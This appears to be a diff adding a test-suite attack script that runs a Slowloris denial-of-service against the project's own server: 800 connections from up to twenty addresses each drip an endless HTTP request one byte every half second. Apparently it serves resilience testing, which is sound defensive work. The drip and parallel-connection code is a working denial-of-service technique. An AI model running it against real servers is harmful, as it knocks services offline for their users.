@@ -1,0 +1,39 @@
+"""Slowloris: connections that send their request one byte at a time, from one address and from twenty."""
+
+from __future__ import annotations
+
+from functools import partial
+from typing import TYPE_CHECKING, Final
+
+import trio
+
+from tests.support.attack.attack import Attack, main
+from tests.support.attack.target import address, in_parallel
+
+if TYPE_CHECKING:
+    from tests.support.attack.target import Target
+
+CONNECTIONS: Final = 800
+ADDRESSES: Final = 20
+PAUSE_S: Final = 0.5
+
+
+async def drip(target: Target, source: str) -> None:
+    """Send a request that never ends."""
+    stream = await target.stream(source)
+    for byte in target.request("/", "X: " + "y" * 1_000):
+        await stream.send_all(bytes([byte]))
+        await trio.sleep(PAUSE_S)
+
+
+async def attack(target: Target) -> None:
+    """Drip from all sides."""
+    slow = [partial(drip, target, address(0 if n % 2 else n % ADDRESSES)) for n in range(CONNECTIONS)]
+    async with in_parallel(*slow, pause_s=PAUSE_S):
+        await trio.sleep_forever()
+
+
+ATTACK: Final = Attack("slow_heads", "800 connections that send their request a byte at a time", attack)
+
+if __name__ == "__main__":
+    main(ATTACK)
